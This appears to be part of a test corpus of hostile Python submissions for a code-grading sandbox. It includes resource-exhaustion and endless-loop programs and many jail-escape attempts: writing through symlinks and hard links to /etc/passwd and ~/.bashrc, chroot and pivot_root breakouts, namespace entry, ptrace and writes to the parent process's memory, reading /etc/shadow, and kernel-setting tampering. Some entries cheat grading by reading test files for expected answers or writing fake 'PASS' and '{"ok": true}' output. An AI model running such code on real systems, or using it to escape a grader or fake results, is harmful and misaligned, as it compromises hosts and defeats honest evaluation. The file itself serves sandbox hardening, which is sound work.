        os.set_blocking(descriptor, False)
        os.write(descriptor, b"[" * 60000 + b"\n")
        os.write(descriptor, b'{"value":' * 6000 + b"\n")
    except OSError:
        pass


def solve(numbers):
    answer = numbers
    for _ in range(5000):
        answer = [answer]
    return answer
""",
        "a line of a gigabyte": r"""
import os


def solve(numbers):
    block = b"x" * (1 << 20)
    for descriptor in (1, 2):
        try:
            os.set_blocking(descriptor, False)
            for _ in range(1 << 10):
                os.write(descriptor, block)
        except OSError:
            pass
    try:
        return "x" * (1 << 30)
    except MemoryError:
        return "x" * (1 << 26)
""",
        "an answer of a hundred million items": r"""
def solve(numbers):
    for size in (10**8, 10**7, 10**6):
        try:
            return [0] * size
        except MemoryError:
            pass
    return None
""",
        "an exception with an endless message": r"""
class Loud(Exception):
    def __str__(self):
        try:
            return "\x1b[2J\r\nPASS {\"ok\": true}\n" * (1 << 22)
        except MemoryError:
            return "PASS\n" * (1 << 16)

    __repr__ = __str__


def solve(numbers):
    cause = None
    for depth in range(5000):
        error = ValueError("x" * 1024)
        error.__cause__ = error.__context__ = cause
        cause = error
    raise Loud("x" * (1 << 24)) from cause
""",
        "numbers that no decoder likes": r"""
import sys

try:
    sys.set_int_max_str_digits(0)
except Exception:
    pass

calls = []


def solve(numbers):
    calls.append(1)
    return [[10**100000], [-(10**5000)], {"\ud800": "\udfff"}, ["\x00\u2028\u2029\n"]][(len(calls) - 1) % 4]
""",
    },
    "endless loops": {
        "while True at import": r"""
while True:
    pass
""",
        "while True in solve": r"""
def solve(numbers):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
""",
        "asleep for thirty years": r"""
import time


def solve(numbers):
    while True:
        try:
            time.sleep(10**9)
        except BaseException:
            pass
""",
        "regular expression that backtracks": r"""
import re


def solve(numbers):
    re.match(r"(a+)+$", "a" * 64 + "b")
    return numbers[::-1]
""",
        "power too large": r"""
def solve(numbers):
    return [10 ** 10**9 % 7, 3 ** (10**9)]
""",
        "endless sum in C": r"""
import itertools


def solve(numbers):
    return [sum(itertools.repeat(0)), max(itertools.count())]
""",
        "recursion without a limit": r"""
import sys

sys.setrecursionlimit(1 << 30)


class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x")

    def __repr__(self):
        return repr([self])


def down(depth):
    return down(depth + 1) + 1


def solve(numbers):
    for fall in (lambda: repr(Deep()), lambda: down(0)):
        try:
            fall()
        except (RecursionError, MemoryError):
            pass
    return numbers[::-1]
""",
        "lock taken twice": r"""
import threading

lock = threading.Lock()
lock.acquire()


def solve(numbers):
    lock.acquire()
    return numbers[::-1]
""",
        "iterators given back": r"""
import itertools

calls = []


def solve(numbers):
    calls.append(1)
    ways = (itertools.cycle([1]), itertools.count(), iter(int, 1), map(abs, itertools.count()), range(1 << 62))
    return ways[len(calls) % len(ways)]
""",
        "list that grows while it is read": r"""
class Growing(list):
    def __iter__(self):
        while True:
            yield 1

    def __len__(self):
        return 3


def solve(numbers):
    return Growing(numbers[::-1])
""",
        "threads that outlast the program": r"""
import threading
import time


def stay():
    end = time.monotonic() + 3600
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass


class Clinging:
    def __del__(self):
        stay()


clinging = Clinging()
for _ in range(4):
    try:
        threading.Thread(target=stay, daemon=False).start()
    except RuntimeError:
        pass


def solve(numbers):
    return numbers[::-1]
""",
    },
    "symlinks and proc": {
        "written through a link in the folder": r"""
import os


def solve(numbers):
    targets = ("/etc/passwd", "/etc/hosts", "/etc/ld.so.preload", os.path.expanduser("~/.bashrc"), "/proc/self/exe")
    for index, target in enumerate(targets):
        for path in ("link-%d" % index, "/tmp/link-%d" % index, "/dev/shm/link-%d" % index):
            try:
                os.symlink(target, path)
                with open(path, "a") as file:
                    file.write("# written from the jail\n")
            except OSError:
                pass
    for name in ("stdout", "stderr", "rc", "result.json", "program.py", "output"):
        try:
            os.symlink("/etc/passwd", name)
        except OSError:
            pass
    return numbers[::-1]
""",
        "/proc/self/root and /proc/1/root": r"""
import os
import re

names = {"__builtins__": {}, "list": list, "range": range}


def solve(numbers):
    for process in ("self", "1", str(os.getppid()), "thread-self"):
        for way in ("root", "cwd", "root/proc/1/root", "cwd/../../../../../../.."):
            top = "/proc/%s/%s" % (process, way)
            try:
                with open(top + "/escaped", "w") as file:
                    file.write("written from the jail\n")
            except OSError:
                pass
            for inner in ("", "/tests", "/tmp", "/home", "/srv"):
                try:
                    for name in os.listdir(top + inner):
                        if name.endswith(".py"):
                            with open(top + inner + "/" + name, errors="replace") as file:
                                for asked, wanted in re.findall(r"assert solve\((.*)\) == (.*)", file.read()):
                                    if eval(asked, names) == numbers:
                                        return eval(wanted, names)
                except Exception:
                    pass
    return numbers[::-1]
""",
        "/proc/self/fd reopened": r"""
import os


def solve(numbers):
    for process in ("self", "1", str(os.getppid())):
        for descriptor in range(256):
            path = "/proc/%s/fd/%d" % (process, descriptor)
            for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
                try:
                    handle = os.open(path, flags | os.O_NONBLOCK)
                    os.write(handle, b'{"ok": true}\n')
                    os.close(handle)
                except OSError:
                    pass
            try:
                inner = os.open(path + "/..", os.O_RDONLY)
                os.fchdir(inner)
                os.close(inner)
            except OSError:
                pass
    return os.listdir(".") if os.access(".", os.R_OK) else None
""",
        "hard links": r"""
import os
import sys


def solve(numbers):
    for index, target in enumerate(("/etc/passwd", "/etc/shadow", sys.executable, os.__file__, "/proc/self/exe")):
        for options in ({"follow_symlinks": True}, {"follow_symlinks": False}):
            try:
                os.link(target, "hard-%d" % index, **options)
                os.chmod("hard-%d" % index, 0o6777)
                with open("hard-%d" % index, "ab") as file:
                    file.write(b"# written from the jail\n")
            except OSError:
                pass
    return numbers[::-1]
""",
        "chroot and back": r"""
import os


def solve(numbers):
    try:
        top = os.open("/", os.O_RDONLY)
        os.makedirs("pit", exist_ok=True)
        os.chroot("pit")
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    try:
        with open("/etc/shadow") as file:
            return [len(file.read())]
    except OSError:
        return numbers[::-1]
""",
        "mounts": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
    except Exception:
        return None
    for folder in ("m", "/tmp/m"):
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            continue
        place = folder.encode()
        for source, kind, flags in (
            (b"proc", b"proc", 0),
            (b"sysfs", b"sysfs", 0),
            (b"devtmpfs", b"devtmpfs", 0),
            (b"tmpfs", b"tmpfs", 0),
            (b"cgroup", b"cgroup", 0),
            (b"cgroup2", b"cgroup2", 0),
            (b"/", None, 4096 | 16384),
            (b"/dev/sda1", b"ext4", 0),
            (b"/dev/vda1", b"ext4", 0),
        ):
            libc.mount(source, place, kind, flags, None)
    libc.mount(None, b"/", None, 32, None)
    libc.mount(None, b"/", None, 32 | 4096, None)
    libc.umount2(b"/proc", 2)
    libc.umount2(b"/tmp", 2)
    libc.syscall(428, -100, b"/", 1 | 0x8000)
    libc.syscall(430, b"ext4", 0)
    try:
        return os.listdir("m") or numbers[::-1]
    except OSError:
        return None
""",
        "pivot_root": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        number = 41 if os.uname().machine == "aarch64" else 155
        os.makedirs("new/old", exist_ok=True)
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"new", b"new", None, 4096, None)
        libc.syscall(number, b"new", b"new/old")
        libc.syscall(number, b".", b".")
        libc.umount2(b".", 2)
        os.chdir("/")
        return os.listdir("/") + os.listdir("/old")
    except Exception:
        return numbers[::-1]
""",
        "unshare and setns": r"""
import os


def solve(numbers):
    entered = []
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80, 0x7E020080):
            if libc.unshare(flag) == 0:
                entered.append(flag)
        for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
            try:
                with open("/proc/self/" + name, "w") as file:
                    file.write(text)
            except OSError:
                pass
        for process in (1, os.getppid()):
            for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
                try:
                    handle = os.open("/proc/%d/ns/%s" % (process, kind), os.O_RDONLY)
                except OSError:
                    continue
                if libc.setns(handle, 0) == 0:
                    entered.append(kind)
                os.close(handle)
    except Exception:
        pass
    try:
        os.setuid(0)
        os.setgroups([])
    except OSError:
        pass
    return entered or None
""",
        "open_by_handle_at": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)

        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

        handle, number = Handle(128), ctypes.c_int()
        libc.name_to_handle_at(-100, b"/etc/hostname", ctypes.byref(handle), ctypes.byref(number), 0)
        for top in ("/", "/etc/hosts", "/etc/resolv.conf", "/usr", "."):
            try:
                place = os.open(top, os.O_RDONLY)
            except OSError:
                continue
            for inode in (2, 64, 96, 128, 256):
                for kind, size in ((1, 8), (0x81, 8), (handle.kind, handle.size)):
                    guess = Handle(size, kind)
                    guess.data[0] = inode & 255
                    guess.data[1] = inode >> 8
                    opened = libc.open_by_handle_at(place, ctypes.byref(guess), os.O_RDONLY)
                    if opened >= 0:
                        return os.listdir(opened)
            os.close(place)
    except Exception:
        pass
    return numbers[::-1]
""",
        "ptrace of the parent": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace(0, 0, None, None)
        for process in (os.getppid(), 1, 2, 3):
            if process > 0:
                for request in (0x4206, 16):
                    libc.ptrace(request, process, None, None)
                libc.ptrace(7, process, None, None)
                libc.ptrace(17, process, None, None)
    except Exception:
        pass
    for process in (os.getppid(), 1):
        try:
            with open("/proc/%d/mem" % process, "r+b", 0) as memory:
                memory.seek(0x400000)
                memory.write(b"\x90" * 16)
        except (OSError, ValueError):
            pass
    return numbers[::-1]
""",
        "system calls a jail refuses": r"""
import os


def solve(numbers):
    allowed = []
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        arm = os.uname().machine == "aarch64"
        calls = {
            "bpf": (280 if arm else 321, 0, None, 0),
            "keyctl": (219 if arm else 250, 0, -3, 1),
            "userfaultfd": (282 if arm else 323, 1),
            "perf_event_open": (241 if arm else 298, None, 0, -1, -1, 0),
            "io_uring_setup": (425, 8, (ctypes.c_char * 256)()),
            "fanotify_init": (262 if arm else 300, 0, 0),
            "init_module": (105 if arm else 175, None, 0, b""),
            "seccomp": (277 if arm else 317, 2, 0, None),
            "personality": (92 if arm else 135, 0x0040000),
            "process_vm_writev": (271 if arm else 311, os.getppid(), None, 0, None, 0, 0),
            "kcmp": (272 if arm else 312, os.getpid(), os.getppid(), 0, 0, 0),
            "pidfd_getfd": (438, 0, 0, 0),
            "clone3": (435, None, 0),
            "mount_setattr": (442, -1, b"", 0, None, 0),
        }
        for name, arguments in calls.items():
            if libc.syscall(*arguments) >= 0:
                allowed.append(name)
    except Exception:
        pass
    return allowed or None
""",
        "settings of the kernel": r"""
import os


def solve(numbers):
    for path, text in (
        ("/proc/sys/kernel/core_pattern", "core\n"),
        ("/proc/sys/kernel/hostname", "localhost\n"),
        ("/proc/sys/vm/overcommit_memory", "0\n"),
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/self/loginuid", "0"),
        ("/proc/self/attr/current", "unconfined"),
        ("/proc/self/coredump_filter", "0xff"),
        ("/sys/fs/cgroup/cgroup.procs", str(os.getpid())),
        ("/sys/fs/cgroup/../cgroup.procs", str(os.getpid())),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
    for make in (lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)), lambda: os.mkfifo("result.json")):
        try:
            make()
        except OSError:
            pass
    for path in ("disk", "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kallsyms", "/dev/sda", "/dev/vda"):
        try:
            with open(path, "rb", 0) as file:
                return [path, len(file.read(64))]
        except OSError:
            pass
    return numbers[::-1]
""",
    },
}
